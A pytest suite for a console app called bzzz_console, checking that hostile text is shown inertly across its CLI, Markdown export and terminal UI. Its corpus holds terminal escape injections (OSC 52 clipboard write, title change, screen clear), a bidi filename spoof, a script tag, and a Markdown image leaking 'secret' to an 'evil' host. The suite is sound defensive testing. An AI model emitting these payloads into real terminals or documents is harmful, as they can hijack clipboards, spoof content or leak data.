"""Untrusted text is inert everywhere: a corpus of hostile strings through the function that decides how data is
shown (``bzzz_console.domain.text``), the CLI in a real pty, the Markdown export, and the console under Pilot.

Task titles, thread topics, messages, agent roles and capabilities and escalation reasons come from agents,
models, libp2p peers and MCP clients. Each surface must show them as text: no escape sequence reaches the
terminal (the visible replacement does), no Rich/Textual markup in data is interpreted, and nothing in data can
crash the console or stop its agents.
"""

from __future__ import annotations

import asyncio
import fcntl
import json
import os
import select
import struct
import subprocess
import termios
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from helpers import BIN, cli_env
from markdown_it import MarkdownIt
from rich.segment import Segment
from rich.text import Text
from test_tui import _brisk_keys, console, make_settings  # noqa: F401  (the autouse fixture applies here too)
from textual.command import CommandList, CommandPalette

from bzzz_console.domain import commands as cmd
from bzzz_console.domain import events as ev
from bzzz_console.domain.text import (
    MAX_MARKS,
    NEWLINE_GLYPH,
    inert,
    inert_line,
    json_safe,
    md_block,
    md_code,
    md_text,
)
from bzzz_console.store.repo import Store
from bzzz_console.store.tables import AgentRow, EscalationRow, MessageRow, ParticipantRow, ThreadRow
from bzzz_console.tui.agent_screen import AgentScreen
from bzzz_console.tui.dashboard import DashboardScreen
from bzzz_console.tui.escalation_screen import EscalationScreen
from bzzz_console.tui.tables import FleetTable
from bzzz_console.tui.thread_screen import ThreadScreen
from bzzz_console.tui.view import FleetView

OSC52 = "\x1b]52;c;SGVsbG8=\x07"
"""Writes "Hello" to the clipboard of a terminal that allows it."""
OSC0 = "\x1b]0;pwned\x07"
"""Sets the window title."""
CSI_CLEAR = "\x1b[2J"
C1_CSI = "\x9b31m"
"""The one-byte CSI (U+009B): red text on a terminal that takes C1 controls."""
BIDI = "invoice\u202efdp.exe"
"""Reads as "invoiceexe.pdf" where bidi is honoured."""
ZERO_WIDTH = "pay\u200bpal\u2060\ufeff"
MARKUP = "[bold red]x[/]"
LINK = "[link=file:///etc/passwd]y[/]"
SLASH = "Use [/] as the path separator"
CLOSE = "[/]"
ZALGO = "Z" + "".join(chr(c) for c in range(0x0351, 0x0351 + 12)) + "algo"
LONG = "long " * 800

CORPUS = {
    "osc52": f"copy {OSC52} me",
    "osc0": f"title {OSC0} here",
    "clear": f"wipe {CSI_CLEAR} screen",
    "bel": "ding\x07dong",
    "c1": f"c1 {C1_CSI} csi",
    "bidi": BIDI,
    "zero_width": ZERO_WIDTH,
    "markup": MARKUP,
    "link": LINK,
    "slash": SLASH,
    "close": CLOSE,
    "zalgo": ZALGO,
    "long": LONG,
}
"""Every class of hostile text, each with some plain text around it."""

RAW = (OSC52, OSC0, CSI_CLEAR, "\x07", "\x9b", "\u202e", "\u200b", "\u2060", "\ufeff")
"""What must never reach a terminal or a widget as it is."""
SHOWN = ("␛]52;c;SGVsbG8=␇", "␛]0;pwned␇", "␛[2J", "ding␇dong", "\\u009b31m", "invoice\\u202efdp.exe")
"""What the operator sees instead (one line)."""
LITERAL = (MARKUP, LINK, SLASH)
"""Markup in data, shown as the characters it is made of."""


# -- the function -------------------------------------------------------------------------------------------
def test_c0_controls_become_control_pictures_and_newline_and_tab_stay_in_multiline_text() -> None:
    for code in range(0x20):
        ch = chr(code)
        if ch in "\n\t":
            assert inert(f"a{ch}b") == f"a{ch}b"
        elif ch == "\r":
            assert inert("a\rb") == "a␍b"
        else:
            assert inert(f"a{ch}b") == f"a{chr(0x2400 + code)}b", hex(code)
    assert inert("\x1b") == "␛" and inert("\x07") == "␇" and inert("\x00") == "␀"
    assert inert("\x7f") == "␡"
    assert inert("one\r\ntwo") == "one\ntwo"  # CR LF is a newline, not a stray CR


def test_one_line_text_shows_newlines_and_turns_tabs_into_spaces() -> None:
    assert inert_line("one\ntwo\r\nthree\tfour") == f"one{NEWLINE_GLYPH}two{NEWLINE_GLYPH}three four"
    assert "\n" not in inert_line("a\u2028b\u2029c\nd")


def test_c1_controls_format_characters_and_invisible_letters_become_visible_escapes() -> None:
    for code in range(0x80, 0xA0):
        assert inert(chr(code)) == f"\\u{code:04x}"
    bidi = [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C]
    zero_width = [0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF]
    others = [0x00AD, 0x2028, 0x2029, 0x115F, 0x3164, 0x034F]
    for code in bidi + zero_width + others:
        assert inert(f"a{chr(code)}b") == f"a\\u{code:04x}b", hex(code)
    assert inert("\U000e0041") == "\\U000e0041"  # a tag character ("ASCII smuggling")
    assert inert("\ud800") == "\\ud800"  # a lone surrogate would not even encode to UTF-8
    # every format character Python knows is caught, not only the ones listed above
    for code in range(0x10000):
        if unicodedata.category(chr(code)) == "Cf":
            assert inert(chr(code)) == f"\\u{code:04x}", hex(code)


def test_plain_text_markup_and_other_scripts_are_left_alone() -> None:
    for text in (
        "Design the rate limiter",
        MARKUP,
        LINK,
        SLASH,
        "naïve café — 東京 — שלום — مرحبا — 👍 ❤️",
        "tab\tand\nnewline",
        "\u00a0non-breaking and\u3000ideographic spaces",
    ):
        assert inert(text) == text
    assert inert(inert(ZALGO + OSC52)) == inert(ZALGO + OSC52)  # idempotent


def test_runs_of_combining_marks_are_cut() -> None:
    shown = inert(ZALGO)
    assert shown == "Z" + ZALGO[1 : 1 + MAX_MARKS] + "algo"
    assert inert("e\u0301") == "e\u0301"  # one accent is just an accent


def test_a_line_is_cut_to_its_limit_after_escaping() -> None:
    assert inert_line(LONG, 50) == LONG[:49] + "…" and len(inert_line(LONG, 50)) == 50
    assert inert_line("short", 50) == "short"


def test_json_safe_keeps_the_data_and_escapes_what_would_act_on_a_terminal() -> None:
    data = dict(CORPUS) | {"tag": "\U000e0041", "ok": "ü 東京 👍"}
    document = json.dumps(data, ensure_ascii=False)
    safe = json_safe(document)
    assert json.loads(safe) == data
    for raw in RAW:
        assert raw not in safe
    assert "\\u202e" in safe and "\\u009b" in safe and "\\udb40\\udc41" in safe
    assert "ü 東京 👍" in safe  # readable text stays readable
    assert json_safe('{"a": 1}') == '{"a": 1}'


def test_markdown_inline_text_cannot_start_a_link_an_image_emphasis_or_html() -> None:
    source = "# [a](http://x) ![i](http://y) *b* _c_ `d` <img src=x> &amp; ~e~ <http://z> # end #"
    text = md_text(source)
    [block] = [t for t in MarkdownIt("commonmark").parse(f"# {text}") if t.type == "inline"]
    assert [t.type for t in block.children or []] == ["text"]  # no link, image, emphasis, code or HTML
    assert block.content.replace("\\", "") == source.replace("\\", "")  # and it reads as written
    assert md_text(f"x\n## fake heading {OSC52}") == "x⏎\\#\\# fake heading ␛\\]52;c;SGVsbG8=␇"
    assert md_code("a`b") == "``a`b``" and md_code("`x") == "`` `x ``"


def test_a_markdown_body_is_quoted_and_its_html_and_images_are_inert_outside_code() -> None:
    body = md_block(
        "## Heading inside\n<script>alert(1)</script> &copy; ![pixel](http://evil/?q=secret) [docs](http://d)\n"
        "`List<int>` and\n```html\n<b>kept</b>\n```\n```\nunclosed <fence>"
    )
    lines = body.split("\n")
    assert all(line.startswith(">") for line in lines)
    tokens = MarkdownIt("commonmark").parse(body)
    assert tokens[0].type == "blockquote_open" and tokens[-1].type == "blockquote_close"
    assert [t for t in tokens if t.level == 0 and not t.type.startswith("blockquote")] == []
    inline = [c.type for t in tokens if t.children for c in t.children]
    assert not {"image", "html_inline"} & set(inline) and "html_block" not in {t.type for t in tokens}
    assert "link_open" in inline  # links stay links (the console and `threads show` print their address)
    assert "> ## Heading inside" in lines  # inside the quote: it cannot pass for the export's own heading
    assert (
        "&lt;script>alert(1)&lt;/script> &amp;copy; !\\[pixel](http://evil/?q=secret) [docs](http://d)"
        in body
    )
    assert "> `List<int>` and" in lines  # code stays as written
    assert "> <b>kept</b>" in lines
    assert "> unclosed <fence>" in lines  # an unclosed fence ends with the quote
    assert OSC52 not in md_block(OSC52) and "␛" in md_block(OSC52)


# -- a database full of hostile text ----------------------------------------------------------------------
HOSTILE_THREAD = "t-[/]"
"""A thread id with markup in it: ids reach the palette's names ("Go to thread …")."""
HOSTILE_AGENT = "ext-[bold]"


HOSTILE_ROLE = f"{MARKUP} {OSC0}"


def hostile_db(url: str, role: str = HOSTILE_ROLE) -> dict[str, list[str]]:
    """Every field that data fills holds the corpus: task titles, thread topics, messages, an outside agent's id,
    role and capabilities, escalation rules and reasons. Returns the ids of what was written, by kind.

    A node refuses to start on a stored agent whose role is not a role name (``AgentSpec`` validates it), so
    the console's database gets a plain ``role``; the CLI reads any database as it is."""
    store = Store.open(url)
    ids: dict[str, list[str]] = {"threads": [], "escalations": [], "tasks": []}
    try:
        for text in CORPUS.values():
            task = store.add_task(
                title=text, description=text, roles=["architect"], priority="high", project="p"
            )
            store.set_task_status(task.id, "done")  # a node opened on this db has nothing to start
            ids["tasks"].append(task.id)
        store.save_agent(
            AgentRow(
                id=HOSTILE_AGENT,
                role=role,
                model="external",
                origin="mcp",
                state="idle",
                capabilities=list(CORPUS.values())[:8],
            )
        )
        for n, (key, text) in enumerate(CORPUS.items()):
            thread_id = HOSTILE_THREAD if n == 0 else f"t-{key}"
            thread = ThreadRow(id=thread_id, project="p", topic=text, status="waiting_human", task_id=None)
            members = [
                ParticipantRow(thread_id=thread_id, agent_id=HOSTILE_AGENT, role=f"{LINK}", position=0)
            ]
            opening = MessageRow(
                id=f"{thread_id}#1",
                thread_id=thread_id,
                seq=1,
                author=HOSTILE_AGENT,
                role=SLASH,
                type="proposal",
                content=f"{text}\n\nsee [docs](file:///etc/passwd) and {MARKUP}",
            )
            store.create_thread(thread, members, opening)
            ids["threads"].append(thread_id)
        messages = [
            MessageRow(
                id=f"{HOSTILE_THREAD}#{seq}",
                thread_id=HOSTILE_THREAD,
                seq=seq,
                author=HOSTILE_AGENT,
                role="architect",
                type="comment",
                content=text,
            )
            for seq, text in enumerate(CORPUS.values(), start=2)
        ]
        with store.session() as s:
            s.add_all(messages)
            s.commit()
        for key, text in CORPUS.items():
            row = EscalationRow(
                id=f"esc-{key}",
                thread_id=HOSTILE_THREAD,
                agent_id=HOSTILE_AGENT,
                rule=f"rule {CLOSE}",
                reason=text,
                priority="high",
                context={"excerpt": [f"#1 {HOSTILE_AGENT} [proposal]: {text}"], "options": [SLASH, OSC52]},
            )
            store.raise_escalation(row, thread_status=None)
            ids["escalations"].append(row.id)
    finally:
        store.close()
    return ids


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, dict[str, list[str]]]:
    root = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{root / 'hostile.db'}"
    return root, url, hostile_db(url)


# -- the CLI in a real terminal ---------------------------------------------------------------------------
PTY_TIMEOUT = 60.0  # seconds a short command may take on a loaded machine (import time), not a measurement


def in_pty(argv: list[str], env: dict[str, str], cwd: Path) -> tuple[int, bytes]:
    """Run ``argv`` with a pseudo-terminal as stdin, stdout and stderr (200 columns), as an operator's shell
    would; return its exit code and every byte it wrote to the terminal."""
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 200, 0, 0))
    proc = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=slave, env=env, cwd=cwd, close_fds=True)
    os.close(slave)
    out = bytearray()
    deadline = time.monotonic() + PTY_TIMEOUT
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # EIO: the child closed its end of the terminal
                    break
                if not chunk:
                    break
                out += chunk
            elif proc.poll() is not None:
                break
        else:
            proc.kill()
            raise AssertionError(f"{argv} did not finish in {PTY_TIMEOUT:g} s")
        return proc.wait(timeout=PTY_TIMEOUT), bytes(out)
    finally:
        os.close(master)


def assert_inert_bytes(out: bytes) -> None:
    text = out.decode("utf-8")
    for raw in RAW:
        assert raw not in text, (raw, text[:2000])
    assert "\x1b]" not in text  # no OSC at all: no title, no clipboard, no hyperlink (OSC 8)
    assert "Traceback" not in text and "MarkupError" not in text


@pytest.mark.slow
@pytest.mark.parametrize(
    "command",
    [
        ("task", "list"),
        ("threads", "list"),
        ("escalations", "list"),
        ("agents", "list"),
        ("status",),
    ],
)
def test_cli_lists_show_hostile_text_inert_on_a_terminal(
    hostile: tuple[Path, str, dict[str, list[str]]], command: tuple[str, ...]
) -> None:
    root, url, _ = hostile
    env = cli_env(root, TERM="xterm-256color")
    env.pop("NO_COLOR")  # the CLI's own styling is on, as in a real terminal
    code, out = in_pty([str(BIN), *command, "--db", url], env, root)
    assert code in (0, 1), out  # status: 1 = "not healthy" (no model provider key), still a report
    assert_inert_bytes(out)
    text = out.decode()
    assert "␛" in text  # the escape is there to see
    if command == ("agents", "list"):
        assert MARKUP in text  # the outside agent's role
    elif command != ("status",):
        for shown in (*SHOWN, *LITERAL):
            assert shown in text, shown  # markup in data is text, not a style or a link


@pytest.mark.slow
def test_cli_show_commands_show_hostile_text_inert_on_a_terminal(
    hostile: tuple[Path, str, dict[str, list[str]]],
) -> None:
    root, url, _ = hostile
    env = cli_env(root, TERM="xterm-256color")
    env.pop("NO_COLOR")
    code, out = in_pty([str(BIN), "threads", "show", HOSTILE_THREAD, "--db", url], env, root)
    assert code == 0, out
    assert_inert_bytes(out)
    text = out.decode()
    for shown in (*SHOWN, MARKUP, SLASH):
        assert shown in text, shown
    assert "file:///etc/passwd" in text  # the link's address is printed, the link is not live
    for key, shown in (("osc52", SHOWN[0]), ("c1", SHOWN[4]), ("slash", SLASH), ("long", LONG.strip())):
        code, out = in_pty([str(BIN), "escalations", "show", f"esc-{key}", "--db", url], env, root)
        assert code == 0, out
        assert_inert_bytes(out)
        assert shown in out.decode(), key  # the reason, whole (the terminal wraps it, the bytes do not)


@pytest.mark.slow
def test_cli_json_is_exact_and_inert(hostile: tuple[Path, str, dict[str, list[str]]]) -> None:
    root, url, _ = hostile
    env = cli_env(root)
    for command in (("task", "list", "--json"), ("threads", "export", HOSTILE_THREAD, "--format", "json")):
        done = subprocess.run(
            [str(BIN), *command, "--db", url], env=env, capture_output=True, text=True, timeout=PTY_TIMEOUT
        )
        assert done.returncode == 0, done.stderr
        for raw in RAW:
            assert raw not in done.stdout
        data = json.loads(done.stdout)
        texts = (
            [t["title"] for t in data] if command[0] == "task" else [m["content"] for m in data["messages"]]
        )
        assert set(CORPUS.values()) <= set(texts)  # the data itself is exact


# -- the Markdown export ---------------------------------------------------------------------------------------
@pytest.mark.slow
def test_markdown_export_of_hostile_threads(hostile: tuple[Path, str, dict[str, list[str]]]) -> None:
    root, url, ids = hostile
    env = cli_env(root)
    for n, thread_id in enumerate(ids["threads"]):
        target = root / f"export-{n}.md"
        done = subprocess.run(
            [str(BIN), "threads", "export", thread_id, "-f", "md", "-o", str(target), "--db", url],
            env=env,
            capture_output=True,
            text=True,
            timeout=PTY_TIMEOUT,
        )
        assert done.returncode == 0, done.stderr
        md = target.read_text(encoding="utf-8")
        for raw in RAW:
            assert raw not in md
        heading, *_ = md.split("\n", 1)
        assert heading.startswith("# ") and "[" not in heading.replace("\\[", "")  # no link can start there
        # the only headings are the export's own: a message cannot forge one
        own = {"## Transcript", "## Decisions"}
        headings = [line for line in md.splitlines() if line.startswith("#")]
        assert headings[0] == heading
        assert all(h in own or h.startswith("### #") for h in headings[1:]), headings
    md = (root / "export-0.md").read_text(encoding="utf-8")  # the thread that holds the whole corpus
    assert "> copy ␛]52;c;SGVsbG8=␇ me" in md and f"> {MARKUP}" in md
    assert "### #1 ext-\\[bold\\] (Use \\[/\\] as the path separator) · proposal" in md


# -- the console under Pilot ----------------------------------------------------------------------------------
def drawn(app: Any) -> tuple[str, list[Segment]]:
    """What the screen on top draws right now (toasts included): its text, line by line, and its segments."""
    strips = app.screen._compositor.render_strips()
    segments = [segment for strip in strips for segment in strip]
    return "\n".join(strip.text for strip in strips), segments


def assert_drawn_inert(app: Any) -> str:
    text, segments = drawn(app)
    for raw in RAW:
        assert raw not in text, raw
    assert not [s.text for s in segments if s.style is not None and s.style.link], "a live link from data"
    return text


async def test_the_console_shows_hostile_text_as_text_and_keeps_running(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    hostile_db(settings.database_url(), role="guest")
    async with console(settings, seed=False) as c:
        # the dashboard: every pane, every cell, as literal text
        screen = c.app.screen
        threads = screen.query_one("#threads", FleetTable)
        escalations = screen.query_one("#escalations", FleetTable)
        agents = screen.query_one("#agents", FleetTable)
        await c.until(lambda: threads.row_count == len(CORPUS), "the hostile threads")
        await c.until(lambda: escalations.row_count == len(CORPUS), "the hostile escalations")
        await c.until(lambda: HOSTILE_AGENT in agents._shown, "the outside agent")
        topic = threads.get_cell("t-markup", "topic")
        assert isinstance(topic, Text) and topic.plain == MARKUP and not topic.spans  # not bold, not red
        assert threads.get_cell(HOSTILE_THREAD, "topic").plain == f"copy {SHOWN[0]} me"
        assert escalations.get_cell("esc-slash", "reason").plain == f"rule {CLOSE}: {SLASH}"
        await c.pilot.pause()
        text = assert_drawn_inert(c.app)
        assert MARKUP in text and SLASH in text and "␛" in text

        # the palette, whose hits name "t-[/]" and topics such as "Use [/] as the path separator"
        await c.press("ctrl+p")
        await c.shows(CommandPalette, "the command palette")
        await c.type("thread")
        options = c.app.screen.query_one(CommandList)
        await c.until(lambda: options.option_count >= len(CORPUS), "a hit per thread")
        prompts = [str(options.get_option_at_index(i).prompt) for i in range(options.option_count)]
        assert any(p.startswith(f"Go to thread {HOSTILE_THREAD}\n") for p in prompts), prompts
        assert any(SLASH in p for p in prompts) and any(MARKUP in p for p in prompts)
        await c.pilot.pause()
        assert_drawn_inert(c.app)
        await c.press("escape")
        await c.shows(DashboardScreen, "the palette closed")

        # a thread's transcript: the corpus as messages, Markdown links printed with their address
        c.app.open_thread(HOSTILE_THREAD)
        await c.shows(ThreadScreen, "the thread screen")
        listing = c.app.screen.query_one("#transcript")
        await c.until(lambda: len(listing.children) == len(CORPUS) + 1, "the whole transcript")
        for _ in range(len(CORPUS)):  # up to the first message, as an operator would
            await c.press("up")
        await c.until(lambda: listing.scroll_y == 0, "the top of the transcript")
        await c.pilot.pause()
        text = assert_drawn_inert(c.app)
        assert SHOWN[0] in text and "file:///etc/passwd" in text and MARKUP in text
        await c.press("escape")
        await c.shows(DashboardScreen, "back on the dashboard")

        # an escalation: reason, rule, options and the excerpt
        c.app.open_escalation("esc-osc0")
        await c.shows(EscalationScreen, "the escalation screen")
        await c.pilot.pause()
        text = assert_drawn_inert(c.app)
        assert f"title {SHOWN[1]} here" in text and f"rule {CLOSE}" in text and SLASH in text
        await c.press("escape")
        await c.shows(DashboardScreen, "back on the dashboard")

        # the outside agent's screen: its id, role, thread and state history
        c.app.open_agent(HOSTILE_AGENT)
        await c.shows(AgentScreen, "the agent screen")
        await c.pilot.pause()
        assert_drawn_inert(c.app)
        await c.press("escape")
        await c.shows(DashboardScreen, "back on the dashboard")

        # toasts of live events quote hostile text
        c.rt.publish(ev.ErrorRaised(where=OSC0, message=f"{MARKUP} {OSC52} {SLASH}"))
        c.rt.publish(
            ev.EscalationRaised(
                escalation_id="esc-live",
                thread_id=HOSTILE_THREAD,
                agent_id=HOSTILE_AGENT,
                rule=CLOSE,
                reason=f"{LINK} {CSI_CLEAR}",
                priority="urgent",
                deadline=None,
            )
        )
        await c.until(lambda: any(SHOWN[2] in n for n in c.notices), "the escalation's toast")
        await c.until(lambda: any(SHOWN[0] in n for n in c.notices), "the error's toast")
        # run_test mounts no toast rack: read the notifications a toast draws; with markup off a toast shows
        # its title and message as they are (textual.widgets._toast.Toast.render)
        notes = list(c.app._notifications)
        assert notes and not [n for n in notes if n.markup]
        shown = "\n".join(f"{n.title}\n{n.message}" for n in notes)
        for raw in RAW:
            assert raw not in shown, raw
        assert LINK in shown and f"{MARKUP} {SHOWN[0]} {SLASH}" in shown and SHOWN[1] in shown
        assert not [n for n in c.notices if "display error" in n], c.notices

        # and the console and its runtime still run
        assert c.app.is_running and c.app.view.status.running and c.app.failed is None
        assert c.app._pump is not None and not c.app._pump.done()


async def test_an_event_or_repaint_that_fails_is_reported_and_the_fleet_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with console(make_settings(tmp_path), seed=False) as c:
        apply = FleetView.apply

        def failing(self: FleetView, event: ev.Event) -> set[str]:
            if isinstance(event, ev.NetworkMessage):
                raise RuntimeError(f"cannot show {MARKUP} {OSC52}")
            return apply(self, event)

        monkeypatch.setattr(FleetView, "apply", failing)
        c.rt.publish(ev.NetworkMessage(type="meta_discussion", sender="peer", summary="hello"))
        c.rt.publish(ev.ErrorRaised(where="runtime", message="the event after it"))
        await c.until(lambda: any("display error" in n for n in c.notices), "the display error toast")
        await c.until(lambda: any("the event after it" in n for n in c.notices), "the next event shown")
        [error] = [n for n in c.notices if "display error" in n]
        assert "showing a network_message event" in error and MARKUP in error and SHOWN[0] in error

        # a repaint that fails once a second is reported once, not once a second
        def broken_tick(self: DashboardScreen) -> None:
            raise ValueError("the clock pane broke")

        monkeypatch.setattr(DashboardScreen, "tick", broken_tick)
        await c.until(lambda: any("the clock pane broke" in n for n in c.notices), "the tick's error")
        await asyncio.sleep(2.5)  # two more ticks
        assert len([n for n in c.notices if "the clock pane broke" in n]) == 1

        # the runtime goes on: a new task becomes a thread, shown on the dashboard
        await c.rt.submit(
            cmd.AddTask(
                project=c.app.settings.runtime.project,
                operator="operator",
                title="Still working",
                description="",
                roles=("architect", "reviewer"),
                priority="medium",
            )
        )
        await c.until(
            lambda: any(t.topic.endswith("Still working") for t in c.app.view.threads.values()),
            "the new task's thread in the console",
        )
        assert c.app.is_running and c.app._pump is not None and not c.app._pump.done()
